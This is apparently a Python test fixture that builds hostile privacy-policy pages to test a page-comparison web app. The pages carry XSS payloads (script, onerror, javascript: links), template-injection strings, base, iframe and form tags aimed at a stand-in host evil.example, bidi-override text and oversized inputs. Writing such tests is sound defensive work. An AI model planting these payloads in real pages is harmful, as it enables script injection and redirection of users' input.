"""Policies that try a page's patience: with markup as text, with scripts, with words that do not end, and very long."""

from __future__ import annotations

from tests.web.scenario import SECTIONS, policy

MARKUP = "<script>document.title='run'</script><b>&amp;"
SHARED = (
    "We share your address with the carrier that brings your parcel. We also share your order history with "
    "Brightmetrics, an analytics company, to measure our advertising. We require every service provider to protect "
    "your information by a written contract."
)
WORD = "W" * 4000  # without a place to break at
LONG = policy({f"{heading}: {'and everything that follows from it, ' * 6}": text for heading, text in SECTIONS.items()})

_RUNS = (  # as text of the page: escaped once by the vendor, so that our own pages would run it if they unescaped
    "&lt;script&gt;document.title='run'&lt;/script&gt; &lt;img src=x onerror=\"document.title='run'\"&gt; "
    "&lt;style&gt;body{display:none}&lt;/style&gt; &lt;/article&gt;&lt;/main&gt;&lt;/body&gt; "
    "{{ 7 * 7 }} {% include 'web/base.html' %} &lt;svg onload=\"document.title='run'\"&gt; &amp;lt;b&amp;gt; "
    "javascript:document.title='run' &lt;!-- &lt;base href='https://evil.example/'&gt;"
)
_REALLY = (  # as markup of the page itself
    "<script>document.title='run'</script><style>body{display:none!important}</style>"
    "<img src=x onerror=\"document.title='run'\"><a href=\"javascript:document.title='run'\">a link</a>"
    "<iframe src=https://evil.example/></iframe><base href=https://evil.example/>"
    "<form action=https://evil.example/><input name=a autofocus><button>Send</button></form>"
)
_ARABIC = (
    "نحن نجمع اسمك وعنوان بريدك الإلكتروني والطلبات التي تقدمها في متجرنا. نحتفظ بطلباتك لمدة 18 شهرا بعد آخر طلب. "
    "بعد ذلك نحذفها أو نجعلها مجهولة حتى لا يعرف أحد أنها منك. لا نبيع بياناتك الشخصية لأي شخص. "
)
_OVERRIDES = (
    "\u202eWe sell your data\u202c \u2066isolated\u2069 \u200bzero\u200bwidth " + "Z" + "\u0300\u0301\u0302" * 60
)


def _page(*blocks: str, months: int) -> str:
    kept = f"<h2>How long we keep data</h2><p>We keep your order history for {months} months after your last order.</p>"
    body = "".join(f"<p>{text} {block}</p>" for text, block in zip(SECTIONS.values(), blocks, strict=False))
    rest = "".join(f"<p>{block}</p>" for block in blocks[len(SECTIONS) :])
    return (
        f"<!doctype html><html lang=en><head><title>Privacy Policy</title></head><body><main><h1>Privacy Policy</h1>"
        f"<h2>{blocks[0]}</h2>{body}{rest}{kept}</main></body></html>"
    )


def _pair(*blocks: str) -> tuple[str, str]:
    return _page(*blocks, months=18), _page(*blocks, months=24)


def _arabic(months: int) -> str:
    blocks = "".join(f"<h2>القسم {number}</h2><p>{_ARABIC * 3}</p>" for number in range(1, 6))
    text = blocks.replace("18", str(months))
    return f"<!doctype html><html lang=ar dir=rtl><head><title>سياسة الخصوصية</title></head><body>{text}</body></html>"


def _sentence(number: int) -> str:
    """Like no other: texts that repeat are another thing to compare."""
    return f"We protect your personal information in shop {number} by what your consent says."


_BLOCKS = 1250
_A_BLOCK = 52  # sentences
_FIVE_MB = _page(
    *(" ".join(map(_sentence, range(at * _A_BLOCK, at * _A_BLOCK + _A_BLOCK))) for at in range(_BLOCKS)), months=18
)

HOSTILE = {
    "markup": _pair(_RUNS, _REALLY, f"<pre>{_RUNS}</pre>", _RUNS),
    "huge words": _pair(WORD, WORD.lower(), f"<ul><li>{WORD}</li></ul>", _OVERRIDES),
    "right to left": (_arabic(18), _arabic(24)),
    "5 MB": (_FIVE_MB,),
    "10,000 blocks": (_page(*map(_sentence, range(10_000)), months=18),),
}
"""By name, a policy before and after a change that matters; the longest once: to read them takes seconds."""
